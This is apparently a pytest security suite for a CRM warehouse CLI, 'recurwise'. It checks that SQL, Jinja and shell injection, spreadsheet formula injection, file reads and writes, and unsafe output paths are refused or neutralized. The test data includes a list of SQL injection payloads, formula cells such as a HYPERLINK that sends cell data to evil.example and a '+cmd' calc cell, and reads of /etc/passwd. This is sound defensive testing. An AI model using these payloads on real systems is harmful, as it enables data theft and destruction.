"""Safety (SPEC 6, issue 15): nothing a CRM value, a setting or an output path contains can
run, leak or overwrite.

An injection sweep over every setting and every CLI input that reaches SQL or a path, CSV
formula neutralization, the read-only `recurwise query`, protected output paths, file
modes, console text and messages, and OS errors as one message.
"""

import csv
import errno
import hashlib
import io
import json
import os
import re
import shutil
import socket
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

import duckdb
import openpyxl
import pytest
from rich.console import Console

from dagster_project import cli
from dagster_project.build.errors import BuildError, UsageError
from dagster_project.build.run import DEMO_LANDING, run_build
from dagster_project.build.summary import BuildSummary
from dagster_project.defs.resources import BuildSettings
from dagster_project.lib import lakehouse as lakehouse_layout
from dagster_project.lib import outputs
from dagster_project.lib import warehouse as warehouse_files
from dagster_project.lib.export import ExportError, export_mart
from dagster_project.lib.outputs import neutralize
from dagster_project.lib.renewals_export import export_renewals
from dagster_project.lib.report import MARTS as REPORT_MARTS
from dagster_project.lib.report import ReportError, write_report
from dagster_project.lib.settings import (
    DECLARED,
    SettingError,
    check_dbt_vars,
    dbt_defaults,
    overridable_settings,
    parse_settings,
)
from dagster_project.lib.warehouse import work_path
from tests.conftest import write_snapshot
from tests.contracts import create_empty_marts

BIN = Path(sys.executable).parent
RECURWISE = str(BIN / "recurwise")
DBT_PROJECT = Path(__file__).resolve().parents[1] / "dbt_project"

# What an attacker (or an unlucky analyst) types into a setting, a flag or a CRM field.
PAYLOADS = [
    "x' || (select string_agg(\"Name\", '|') from raw.account) || '",
    "Partner's Review",
    "1; drop table raw.account",
    "1 or 1=1",
    "' or '1'='1",
    "abc",
    "1.5",
    "9" * 40,
    "{{ var('as_of_date') }}",
    "$(id)",
    "a\nb",
    "2024-13-01",
    "2024-01-01' or '1'='1",
    "-1",
    "true",
]


def recurwise(*args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([RECURWISE, *args], capture_output=True, text=True, timeout=900, env=env)


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def tiny_warehouse(tmp_path: Path) -> Path:
    """A small published warehouse: a text mart, the renewals mart, the report's marts (empty),
    a landing folder."""
    landing = tmp_path / "landing"
    write_snapshot(landing, "2026-01-01", {"Account.csv": "Id,Name,CreatedDate\n"})
    path = tmp_path / "warehouse.duckdb"
    with duckdb.connect(str(path)) as con:
        con.execute("create schema raw; create schema marts")
        con.execute(
            "create table raw.snapshots (snapshot_date date, folder varchar, found_at timestamp)"
        )
        con.execute(
            "insert into raw.snapshots values (date '2026-01-01', ?, now()::timestamp)",
            [str(landing / "2026-01-01")],
        )
        con.execute(
            "create table marts.build_info as select date '2026-01-01' as as_of_date, "
            "date '2026-01-01' as last_snapshot_date, 'USD' as corporate_currency"
        )
        create_empty_marts(con, REPORT_MARTS - {"build_info"})  # the report's, no rows yet
        con.execute(
            "create table marts.crm_text (account_name varchar, note varchar, mrr decimal(18, 2))"
        )
        con.executemany(
            "insert into marts.crm_text values (?, ?, ?)",
            [
                ('=HYPERLINK("http://evil.example/?x="&A2)', "+1", Decimal("-12.50")),
                ("@SUM(A1:A9)", "-12.5", Decimal("3.00")),
                ("-1+2", "\tTabbed", Decimal("0.00")),
                ("+cmd|' /C calc'!A0", "\rReturn", Decimal("1.00")),
                ("Acme [/x] Corp", "1e5", None),
                ("Partner's Review", "-", Decimal("2.00")),
            ],
        )
        con.execute(
            'create table marts.renewal_opportunities_to_create ("AccountId" varchar, '
            '"Name" varchar, "Type" varchar, "StageName" varchar, "CloseDate" date, '
            '"Amount" decimal(18, 2))'
        )
        con.execute(
            "insert into marts.renewal_opportunities_to_create values "
            "('001A', '=HYPERLINK(\"http://evil.example\") - Renewal 2026-03-31', 'Renewal', "
            "'@Stage', date '2026-03-31', 1200.50)"
        )
    return path


# --- settings: typed, checked, passed as values ---------------------------------------------


def test_every_dbt_var_has_a_declared_type_and_its_default_passes():
    defaults = dbt_defaults()
    assert set(defaults) == set(DECLARED)
    assert set(overridable_settings()) == set(DECLARED) - {"as_of_date"}
    assert check_dbt_vars(defaults) == defaults


@pytest.mark.parametrize("name", sorted(DECLARED))
@pytest.mark.parametrize("payload", PAYLOADS)
def test_injection_sweep_over_every_setting(name, payload):
    """Every setting refuses what is not of its type; only text settings take text, as is."""
    setting = DECLARED[name]
    if setting.kind == "text" and payload.isprintable() and "{{" not in payload:
        assert setting.check(payload) == payload
        return
    if setting.kind == "currency" and re.fullmatch("[a-z]{3}", payload):
        assert setting.check(payload) == payload.upper()  # "abc" is a currency code's shape
        return
    if setting.kind == "integer" and payload == "-1":
        with pytest.raises(SettingError, match=f"setting {name} must be a whole number"):
            setting.parse(payload)
        return
    with pytest.raises(SettingError) as refused:
        setting.parse(payload)
    message = str(refused.value)
    assert message.startswith(f"setting {name} must be")
    assert len(message) < 200  # the offending value quoted, truncated


def test_new_logo_lookback_abc_is_refused_not_taken_as_zero():
    with pytest.raises(SettingError, match="new_logo_lookback_months must be a whole number"):
        parse_settings(["new_logo_lookback_months=abc"])
    assert parse_settings(["new_logo_lookback_months=null"]) == {"new_logo_lookback_months": None}
    assert parse_settings(["new_logo_lookback_months=6"]) == {"new_logo_lookback_months": 6}
    assert parse_settings(["renewal_stage_name=Partner's Review"]) == {
        "renewal_stage_name": "Partner's Review"
    }
    assert parse_settings(["corporate_currency=eur"]) == {"corporate_currency": "EUR"}


@pytest.mark.parametrize(
    ("dbt_vars_json", "as_of", "expected"),
    [
        ('{"renewal_horizon_days": "90; drop table raw.account"}', "", "renewal_horizon_days"),
        ('{"renewal_horizon_days": true}', "", "renewal_horizon_days"),
        ('{"mrr_forecast_months_ahead": 1.5}', "", "mrr_forecast_months_ahead"),
        ('{"potential_subscription_grain": "opportunity\' or 1=1"}', "", "grain"),
        ('{"a_setting_nobody_declared": 1}', "", "unknown setting"),
        ("not json", "", "not a JSON object"),
        ("{}", "2026-02-30", "as_of_date must be a date"),
        ("{}", "2026-01-01' or '1'='1", "as_of_date must be a date"),
    ],
)
def test_settings_of_a_run_started_from_the_ui_or_sensor_are_checked(
    dbt_vars_json, as_of, expected
):
    settings = BuildSettings(
        landing_dir="x", warehouse_path="y", as_of_date=as_of, dbt_vars_json=dbt_vars_json
    )
    with pytest.raises(SettingError, match=re.escape(expected)):
        settings.dbt_vars()


@pytest.mark.parametrize(
    "args",
    [
        ["--set", "new_logo_lookback_months=abc"],
        ["--set", "renewal_horizon_days=90) or (1=1"],
        ["--set", "potential_subscription_grain=line_item' --"],
        ["--set", "corporate_currency=US'D"],
        ["--set", "renewal_stage_name={{ run_query('drop table raw.account') }}"],
        ["--as-of", "2026-01-01' or '1'='1"],
        ["--build-filter", "is_won or (select count(*) from raw.account) > 0"],
        ["--build-filter", "stage_name = 'x' || (select 1)"],
        ["--build-filter", "is_won; copy raw.account to '/tmp/accounts.csv'"],
        ["--build-filter", "read_csv('/etc/passwd') is not null"],
    ],
)
def test_cli_inputs_that_reach_sql_are_refused_before_anything_runs(args, tmp_path, capsys):
    warehouse = tmp_path / "w.duckdb"
    with pytest.raises(SystemExit) as exited:
        cli.main(["build", "--landing", str(DEMO_LANDING), "--warehouse", str(warehouse), *args])
    assert exited.value.code in (1, 2)  # 2: argparse refused the flag's type
    assert "error" in capsys.readouterr().err
    assert not warehouse.exists() and not (tmp_path / "w.duckdb.lock").exists()


def _dbt_compile(tmp_path: Path, inline: str, dbt_vars: dict) -> subprocess.CompletedProcess:
    return subprocess.run(
        [str(BIN / "dbt"), "compile", "--quiet", "--inline", inline,
         "--vars", json.dumps(dbt_vars), "--profiles-dir", str(DBT_PROJECT),
         "--target-path", str(tmp_path / "target"), "--log-path", str(tmp_path / "logs")],
        cwd=DBT_PROJECT, capture_output=True, text=True, timeout=600,
        env={**os.environ, "RECURWISE_WORK_DB": str(tmp_path / "compile.duckdb")},
    )  # fmt: skip


@pytest.mark.slow
def test_dbt_macros_quote_text_and_refuse_what_is_not_an_integer_or_date(tmp_path):
    """The second line behind lib/settings.py: a `dbt build --vars ...` run by hand."""
    texts = {f"p{i}": payload for i, payload in enumerate(PAYLOADS) if "{{" not in payload}
    # dbt renders a var's text as Jinja: why lib/settings.py refuses {{ in text settings.
    texts["jinja"] = "{{ 6 * 7 }}"
    inline = "select " + ", ".join(f"{{{{ sql_string(var('{n}')) }}}} as {n}" for n in texts)
    compiled = _dbt_compile(tmp_path, inline, texts)
    assert compiled.returncode == 0, compiled.stdout + compiled.stderr
    with duckdb.connect() as con:
        values = con.execute(compiled.stdout.strip()).fetchone()
    *quoted, rendered = values
    assert quoted == [v for n, v in texts.items() if n != "jinja"]  # each back exactly
    assert rendered == "42"

    for name, value in [("renewal_horizon_days", "90) or (1=1"), ("as_of_date", "x' or '1")]:
        macro = "date_var" if name == "as_of_date" else "integer_var"
        refused = _dbt_compile(tmp_path, f"select {{{{ {macro}('{name}') }}}}", {name: value})
        assert refused.returncode != 0
        assert f"var {name} must be a" in refused.stdout + refused.stderr


# --- CSV, Excel and the Data Loader file: formulas neutralized --------------------------------


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://x?x="&A2)', '\'=HYPERLINK("http://x?x="&A2)'),
        ("+1", "+1"),  # a plain number stays a number
        ("-12.5", "-12.5"),
        ("1e5", "1e5"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTabbed", "'\tTabbed"),
        ("\rReturn", "'\rReturn"),
        ("-", "'-"),
        ("Acme Corp", "Acme Corp"),
        ("", ""),
    ],
)
def test_neutralize_follows_owasp(cell, written):
    assert neutralize(cell) == written


def test_csv_export_neutralizes_formula_cells_and_keeps_numbers(tmp_path):
    warehouse = tiny_warehouse(tmp_path)
    out = tmp_path / "crm_text.csv"
    assert export_mart(warehouse, "crm_text", "csv", out) == 6
    with out.open(newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["account_name", "note", "mrr"]
    assert [row[0] for row in rows[1:]] == [
        '\'=HYPERLINK("http://evil.example/?x="&A2)',
        "'@SUM(A1:A9)",
        "'-1+2",
        "'+cmd|' /C calc'!A0",
        "Acme [/x] Corp",
        "Partner's Review",
    ]
    assert [row[1] for row in rows[1:]] == ["+1", "-12.5", "'\tTabbed", "'\rReturn", "1e5", "'-"]
    assert [row[2] for row in rows[1:]] == ["-12.50", "3.00", "0.00", "1.00", "", "2.00"]
    # Parquet is for tools: every value exactly as in the mart.
    export_mart(warehouse, "crm_text", "parquet", tmp_path / "crm_text.parquet")
    with duckdb.connect() as con:
        names = con.execute(
            f"select account_name from '{tmp_path / 'crm_text.parquet'}'"
        ).fetchall()
    assert names[0][0] == '=HYPERLINK("http://evil.example/?x="&A2)'


def test_xlsx_export_writes_formula_text_as_text(tmp_path):
    warehouse = tiny_warehouse(tmp_path)
    export_mart(warehouse, "crm_text", "xlsx", tmp_path / "crm_text.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "crm_text.xlsx").active
    cell = sheet["A2"]
    assert cell.value == '=HYPERLINK("http://evil.example/?x="&A2)'
    assert cell.data_type == "s"  # a string, not a formula
    assert sheet["C2"].value == -12.5 and sheet["C2"].data_type == "n"


def test_renewals_export_neutralizes_text_cells_for_the_spreadsheet_before_import(tmp_path):
    warehouse = tiny_warehouse(tmp_path)
    out = tmp_path / "renewals.csv"
    assert export_renewals(warehouse, out) == 1
    with out.open(newline="") as handle:
        header, row = list(csv.reader(handle))
    assert header == ["AccountId", "Name", "Type", "StageName", "CloseDate", "Amount"]
    assert row == [
        "001A",
        '\'=HYPERLINK("http://evil.example") - Renewal 2026-03-31',
        "Renewal",
        "'@Stage",
        "2026-03-31",
        "1200.50",
    ]


# --- recurwise query: read-only, no file access, no extension installs ------------------------


def assert_query_refused(sql: str, warehouse: Path, capsys) -> None:
    """`recurwise query` exits 1 with a refusal, and prints nothing of secret.csv."""
    with pytest.raises(SystemExit) as exited:
        cli.main(["query", sql, "--warehouse", str(warehouse)])
    assert exited.value.code == 1
    captured = capsys.readouterr()
    assert "TOP-SECRET-LINE" not in captured.out + captured.err
    assert re.search("refused|read-only|locked", captured.err), captured.err


@pytest.mark.parametrize(
    "sql",
    [
        "copy marts.crm_text to '{tmp}/leak.csv'",
        "copy (select 1) to '{tmp}/leak.parquet' (format parquet)",
        "select * from read_csv('{tmp}/secret.csv')",
        "select * from '{tmp}/secret.csv'",
        "select * from read_text('{tmp}/secret.csv')",
        "select * from glob('{tmp}/*')",
        "attach '{tmp}/other.duckdb' as other",
        "export database '{tmp}/dump'",
        "install httpfs",
        "load httpfs",
        "set enable_external_access = true",
        "set autoinstall_known_extensions = true",
        "create table marts.planted as select 1 as x",
        "drop table marts.crm_text",
    ],
)
def test_query_is_read_only_and_touches_no_other_file(sql, tmp_path, capsys):
    warehouse = tiny_warehouse(tmp_path)
    (tmp_path / "secret.csv").write_text("TOP-SECRET-LINE\n")
    before = sha256(warehouse)
    assert_query_refused(sql.format(tmp=tmp_path), warehouse, capsys)
    assert sha256(warehouse) == before
    assert not any((tmp_path / name).exists() for name in ("leak.csv", "leak.parquet", "dump"))
    assert not (tmp_path / "other.duckdb").exists()


def test_query_with_allow_files_reads_and_writes_files_but_not_the_warehouse(tmp_path, capsys):
    warehouse = tiny_warehouse(tmp_path)
    (tmp_path / "targets.csv").write_text("account_name,target\nAcme,4711\n")
    cli.main(["query", f"select target from read_csv('{tmp_path}/targets.csv')",
              "--warehouse", str(warehouse), "--allow-files"])  # fmt: skip
    assert "4711" in capsys.readouterr().out
    cli.main(["query", f"copy marts.crm_text to '{tmp_path}/out.csv'",
              "--warehouse", str(warehouse), "--allow-files"])  # fmt: skip
    assert (tmp_path / "out.csv").read_text().startswith("account_name,note,mrr")
    with pytest.raises(SystemExit):
        cli.main(["query", "create table marts.planted as select 1 as x",
                  "--warehouse", str(warehouse), "--allow-files"])  # fmt: skip
    assert "read-only" in capsys.readouterr().err


def tiny_lakehouse(tmp_path: Path) -> Path:
    """A Spark build's lakehouse: warehouse.duckdb with a view over a Parquet mart."""
    lakehouse = tmp_path / "lakehouse"
    (lakehouse / lakehouse_layout.MARTS / "fct_text").mkdir(parents=True)
    duckdb.sql(
        "copy (select 'Acme' as account_name, 4711 as mrr) to "
        f"'{lakehouse}/marts/fct_text/part-0.parquet' (format parquet)"
    )
    warehouse = lakehouse_layout.warehouse_file(lakehouse)
    with duckdb.connect(str(warehouse)) as con:
        lakehouse_layout.create_mart_views(con, lakehouse, ["fct_text"])
    return warehouse


def test_query_reads_a_spark_builds_marts_through_its_views(tmp_path, capsys):
    warehouse = tiny_lakehouse(tmp_path)
    cli.main(["query", "select mrr from marts.fct_text", "--warehouse", str(warehouse)])
    assert "4711" in capsys.readouterr().out


@pytest.mark.parametrize(
    "sql",
    [
        # The marts folder may be read, so nothing may be written into it either.
        "copy (select 1) to '{marts}/fct_text/leak.parquet' (format parquet)",
        "copy (select 1) to '{marts}/leak.csv'",
        "attach '{marts}/other.duckdb' as other (read_write)",
        "export database '{marts}/dump'",
        "select 1; copy (select 1) to '{marts}/leak.csv'",
        # Beside it, as for any warehouse: nothing.
        "select * from read_csv('{tmp}/secret.csv')",
        "select * from read_text('{marts}/../../secret.csv')",
        "set allowed_directories = ['{tmp}/']",
    ],
)
def test_query_on_a_lakehouse_reads_its_marts_and_nothing_else(sql, tmp_path, capsys):
    warehouse = tiny_lakehouse(tmp_path)
    marts = warehouse.parent / lakehouse_layout.MARTS
    (tmp_path / "secret.csv").write_text("TOP-SECRET-LINE\n")
    before = sorted(p.relative_to(marts) for p in marts.rglob("*"))
    assert_query_refused(sql.format(tmp=tmp_path, marts=marts), warehouse, capsys)
    assert sorted(p.relative_to(marts) for p in marts.rglob("*")) == before


@pytest.mark.slow
def test_query_never_installs_or_autoloads_an_extension(tmp_path):
    """Issue 22: a query naming an extension's function gets an error, not a download."""
    warehouse = tiny_warehouse(tmp_path)
    home = tmp_path / "home"
    home.mkdir()
    env = {**os.environ, "HOME": str(home)}
    for flags in ([], ["--allow-files"]):
        result = recurwise("query", "select * from read_parquet('https://example.invalid/x.parquet')",
                           "--warehouse", str(warehouse), *flags, env=env)  # fmt: skip
        assert result.returncode == 1 and "Traceback" not in result.stderr
    assert "httpfs" in result.stderr  # with --allow-files: DuckDB names what it would need
    spatial = recurwise("query", "select st_point(1, 2)", "--warehouse", str(warehouse),
                        "--allow-files", env=env)  # fmt: skip
    assert spatial.returncode == 1 and "spatial" in spatial.stderr
    assert not (home / ".duckdb").exists()  # nothing installed


# --- output paths: never the warehouse, its work file, lock or a landing file -----------------


def _outputs(tmp_path: Path, warehouse: Path) -> dict[str, Path]:
    landing_file = tmp_path / "landing" / "2026-01-01" / "Account.csv"
    symlink = tmp_path / "link.csv"
    symlink.symlink_to(warehouse)
    dangling = tmp_path / "to_work_file.csv"
    dangling.symlink_to(warehouse.with_name(warehouse.name + ".building"))
    hardlink = tmp_path / "hard.csv"
    os.link(warehouse, hardlink)
    return {
        "warehouse": warehouse,
        "work file": warehouse.with_name(warehouse.name + ".building"),
        "lock": warehouse.with_name(warehouse.name + ".lock"),
        "wal": warehouse.with_name(warehouse.name + ".wal"),
        "symlink to warehouse": symlink,
        "symlink to work file": dangling,
        "hard link to warehouse": hardlink,
        "landing file": landing_file,
        "new file in landing": tmp_path / "landing" / "2026-01-01" / "Opportunity.csv",
        "relative path to warehouse": Path(os.path.relpath(warehouse)),
    }


@pytest.mark.parametrize(
    "command",
    [
        ["export", "crm_text", "--format", "csv"],
        ["export", "crm_text", "--format", "xlsx"],
        ["export", "renewals"],
        ["report"],
        ["docs"],
    ],
)
def test_no_output_path_is_a_warehouse_or_landing_file(command, tmp_path, capsys):
    warehouse = tiny_warehouse(tmp_path)
    landing_file = tmp_path / "landing" / "2026-01-01" / "Account.csv"
    before = {warehouse: sha256(warehouse), landing_file: sha256(landing_file)}
    for what, out in _outputs(tmp_path, warehouse).items():
        with pytest.raises(SystemExit) as exited:
            cli.main([*command, "--out", str(out), "--warehouse", str(warehouse)])
        assert exited.value.code == 1, what
        err = capsys.readouterr().err
        assert "write the output somewhere else" in err, (what, err)
    assert {path: sha256(path) for path in before} == before
    assert not (tmp_path / "landing" / "2026-01-01" / "Opportunity.csv").exists()
    assert not warehouse.with_name(warehouse.name + ".building").exists()


def test_a_build_refuses_a_warehouse_or_report_in_its_landing_folder(tmp_path):
    landing = tmp_path / "landing"
    shutil.copytree(DEMO_LANDING, landing)
    target = landing / "2026-11-16" / "Account.csv"
    before = sha256(target)
    # A CRM file, a new file in a snapshot folder, one in a snapshot folder still to come.
    for warehouse in (target, target.with_name("w.duckdb"), landing / "2027-01-01" / "w.duckdb"):
        with pytest.raises(UsageError, match="is in the landing folder"):
            run_build(landing, warehouse)
    assert sha256(target) == before
    assert not (landing / "2027-01-01").exists()
    # Beside the snapshot folders is no landing file (tests/test_backfill.py builds there).
    assert outputs.check_output_path(landing / "w.duckdb", landing=[landing])


def test_new_outputs_follow_the_umask_and_replaced_ones_keep_their_mode(tmp_path):
    warehouse = tiny_warehouse(tmp_path)
    old_umask = os.umask(0o027)
    try:
        fresh = tmp_path / "fresh.csv"
        export_mart(warehouse, "crm_text", "csv", fresh)
        assert fresh.stat().st_mode & 0o777 == 0o640
        report = tmp_path / "report.html"
        write_report(warehouse, report)
        assert report.stat().st_mode & 0o777 == 0o640
        for path in (fresh, report):
            path.chmod(0o600)
        export_mart(warehouse, "crm_text", "csv", fresh)
        write_report(warehouse, report)
        export_renewals(warehouse, renewals := tmp_path / "renewals.csv")
        assert renewals.stat().st_mode & 0o777 == 0o640
        renewals.chmod(0o600)
        export_renewals(warehouse, renewals)
    finally:
        os.umask(old_umask)
    assert [p.stat().st_mode & 0o777 for p in (fresh, report, renewals)] == [0o600] * 3
    assert not list(tmp_path.glob("*.partial")) and not list(tmp_path.glob(".*.partial"))


def test_the_work_copy_keeps_the_published_mode_through_publish(tmp_path):
    warehouse = tiny_warehouse(tmp_path)
    warehouse.chmod(0o600)
    work = warehouse_files.start_work_copy(warehouse)
    assert work.stat().st_mode & 0o777 == 0o600
    warehouse_files.publish(warehouse)
    assert warehouse.stat().st_mode & 0o777 == 0o600


# --- a real build: settings as values, modes kept -----------------------------------------


def test_a_build_passes_settings_as_values_and_keeps_the_published_modes(demo_build, tmp_path):
    warehouse = tmp_path / "warehouse.duckdb"
    shutil.copyfile(demo_build.warehouse, warehouse)
    report = tmp_path / "warehouse.report.html"
    shutil.copyfile(demo_build.report, report)
    for path in (warehouse, report):
        path.chmod(0o600)
    stage = PAYLOADS[0]
    result = recurwise("build", "--landing", str(DEMO_LANDING), "--warehouse", str(warehouse),
                       "--set", f"renewal_stage_name={stage}",
                       "--set", "new_logo_lookback_months=6")  # fmt: skip
    assert result.returncode == 0, result.stderr[-3000:]
    with duckdb.connect(str(warehouse), read_only=True) as con:
        stages = con.execute(
            'select distinct "StageName" from marts.renewal_opportunities_to_create'
        ).fetchall()
        account_names = {r[0] for r in con.execute('select "Name" from raw.account').fetchall()}
    assert stages == [(stage,)]  # the text itself, no account name copied in
    assert not any(name in stages[0][0] for name in account_names if name)
    assert warehouse.stat().st_mode & 0o777 == 0o600
    assert report.stat().st_mode & 0o777 == 0o600


# --- console output and messages -----------------------------------------------------------


def test_the_summary_prints_crm_text_and_paths_as_they_are(monkeypatch):
    buffer = io.StringIO()
    monkeypatch.setattr(
        cli, "console", Console(file=buffer, width=400, soft_wrap=True, emoji=False)
    )
    summary = BuildSummary(
        warehouse=Path("/data/[prod]/warehouse.duckdb"),
        seconds=3,
        snapshots=["2026-01-01"],
        loads=[("Account", 2, 1)],
        marts=[("dim_accounts", 2)],
        warnings=[
            "check x failed: e.g. account_name=Acme [/x] Corp :fire: [bold]loud[/bold]",
            "check y failed: e.g. account_name=Evil \x1b[2J\x1b]0;owned\x07 Corp",
        ],
        report=Path("/data/[prod]/warehouse.report.html"),
    )
    cli.print_summary(summary)
    printed = buffer.getvalue()
    assert "Acme [/x] Corp :fire: [bold]loud[/bold]" in printed
    assert "Evil \\x1b[2J\\x1b]0;owned\\x07 Corp" in printed  # shown, not sent to the terminal
    assert "\x1b[2J" not in printed
    assert "Published /data/[prod]/warehouse.duckdb" in printed
    assert "Finance report: /data/[prod]/warehouse.report.html" in printed


def test_error_messages_print_values_literally_and_truncated(tmp_path, capsys):
    warehouse = tiny_warehouse(tmp_path)
    with pytest.raises(SystemExit):
        cli.main(["export", "no[/x]mart", "--out", str(tmp_path / "o.csv"),
                  "--warehouse", str(warehouse)])  # fmt: skip
    assert "no mart named 'no[/x]mart'" in capsys.readouterr().err
    long_value = "=" + "A" * 5000
    with pytest.raises(SettingError) as refused:
        parse_settings([f"renewal_horizon_days={long_value}"])
    assert len(str(refused.value)) < 200 and "'=AAAA" in str(refused.value)


@pytest.mark.slow
def test_a_symlinked_landing_file_is_refused_and_never_echoed(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("root-SECRET-LINE-42:x:0:0\n")
    landing = tmp_path / "landing"
    folder = write_snapshot(landing, "2026-01-01", {
        "Product2.csv": "Id,Name\n01tA,Platform\n",
        "Opportunity.csv": "Id,AccountId,Name,StageName,CloseDate,IsClosed,IsWon,CreatedDate\n",
        "OpportunityLineItem.csv": "Id,OpportunityId,Product2Id,Quantity,UnitPrice\n",
    })  # fmt: skip
    (folder / "Account.csv").symlink_to(secret)
    warehouse = tmp_path / "w.duckdb"
    result = recurwise("build", "--landing", str(landing), "--warehouse", str(warehouse))
    assert result.returncode == 1
    assert "a symbolic link to a file outside snapshot folder" in result.stderr
    assert "Traceback" not in result.stderr
    log = (tmp_path / "w.duckdb.build.log").read_text()
    assert "SECRET-LINE" not in result.stderr + result.stdout + log
    assert not warehouse.exists()


def test_the_report_names_neither_the_host_nor_the_user_nor_the_folder(demo_build, tmp_path):
    folder = tmp_path / "finance-share-7f3a"
    folder.mkdir()
    shutil.copyfile(demo_build.warehouse, folder / "warehouse.duckdb")
    out = tmp_path / "report.html"
    write_report(folder / "warehouse.duckdb", out)
    page = out.read_text()
    # The inlined plotly.js library is the same for everyone; look at what the report adds.
    library_end = page.index("</script>")
    ours = page[:library_end].split("<script")[0] + page[library_end:]
    assert "warehouse.duckdb" in ours
    for identifying in (socket.gethostname(), socket.getfqdn(), str(folder), folder.name):
        assert not re.search(rf"(?<![\w.-]){re.escape(identifying)}(?![\w.-])", ours), identifying
    assert str(Path.home()) not in ours and os.environ.get("USER", "\0") not in ours


# --- errors: full disk, permission denied, a parent that is a file ----------------------------


@pytest.mark.slow
def test_a_warehouse_whose_parent_is_a_file_is_one_message(tmp_path):
    (tmp_path / "plain-file").write_text("x")
    result = recurwise("build", "--landing", str(DEMO_LANDING),
                       "--warehouse", str(tmp_path / "plain-file" / "w.duckdb"))  # fmt: skip
    assert result.returncode == 1
    assert "is a file, not a folder" in result.stderr and "Traceback" not in result.stderr


def test_a_full_disk_at_the_work_copy_keeps_the_published_warehouse(
    demo_build, tmp_path, monkeypatch
):
    warehouse = tmp_path / "warehouse.duckdb"
    shutil.copyfile(demo_build.warehouse, warehouse)
    before = sha256(warehouse)

    def disk_full(source, target):
        Path(target).write_bytes(b"partial")
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(target))

    monkeypatch.setattr(warehouse_files.shutil, "copyfile", disk_full)
    with pytest.raises(BuildError) as failed:
        run_build(DEMO_LANDING, warehouse)
    assert "setting up the build: OSError: [Errno 28] No space left on device" in str(failed.value)
    assert "left as it was" in str(failed.value)
    assert sha256(warehouse) == before
    assert not work_path(warehouse).exists()  # the failed build's partial copy is removed


@pytest.mark.parametrize(
    "error",
    [
        OSError(errno.ENOSPC, os.strerror(errno.ENOSPC)),
        PermissionError(errno.EACCES, "Permission denied"),
    ],
)
def test_exports_and_the_report_turn_os_errors_into_one_message(error, tmp_path, monkeypatch):
    warehouse = tiny_warehouse(tmp_path)
    out = tmp_path / "out.csv"
    out.write_text("previous export\n")

    def failing(*args, **kwargs):
        raise error

    monkeypatch.setattr(outputs.os, "replace", failing)
    with pytest.raises(ExportError, match=error.strerror):
        export_mart(warehouse, "crm_text", "csv", out)
    with pytest.raises(ReportError, match=error.strerror):
        write_report(warehouse, out)
    assert out.read_text() == "previous export\n"
    assert not list(tmp_path.glob(".out.csv.*"))


def test_the_cli_turns_an_unexpected_os_error_into_one_message(tmp_path, capsys, monkeypatch):
    def failing(*args, **kwargs):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), "/data/warehouse.duckdb")

    monkeypatch.setattr(cli, "run_build", failing)
    with pytest.raises(SystemExit) as exited:
        cli.main(["build", "--landing", str(tmp_path), "--warehouse", str(tmp_path / "w")])
    assert exited.value.code == 1
    assert "No space left on device: /data/warehouse.duckdb" in capsys.readouterr().err


@pytest.mark.slow
def test_dates_in_flags_are_checked(tmp_path):
    result = recurwise("build", "--landing", str(tmp_path), "--warehouse", str(tmp_path / "w"),
                       "--as-of", "2026-02-30")  # fmt: skip
    assert result.returncode == 2 and "'2026-02-30' is not a date" in result.stderr
